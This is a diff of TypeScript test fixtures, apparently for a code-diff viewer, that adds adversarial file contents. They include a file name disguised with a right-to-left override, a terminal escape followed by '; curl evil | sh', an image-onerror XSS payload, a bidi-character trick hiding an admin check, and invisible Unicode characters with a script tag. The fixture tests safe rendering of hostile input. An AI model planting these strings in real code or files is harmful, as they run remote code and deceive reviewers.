@@ -56,7 +56,12 @@ const made: Readonly<Record<DiffKind, () => MadeDiff>> = {
         `var a="${"x".repeat(400_000)}";`,
         ...Array.from({ length: 20 }, () => "f();".repeat(5_000)),
       ]),
-      created("src/\u202egpj.ts", ["\u001b[2J\u202e; curl evil | sh", "<img src=x onerror=alert(1)>"]),
+      created("src/\u202egpj.ts", [
+        "\u001b[2J\u202e; curl evil | sh",
+        "<img src=x onerror=alert(1)>",
+        'if (level !== "user\u202e \u2066// only for admins\u2069 \u2066") {',
+        'const isAdmin\u200b = "\u{e0061}\u{e0062}\ufe01"; // \u3164 <script>alert(1)</script>',
+      ]),
     ]),
 };
 
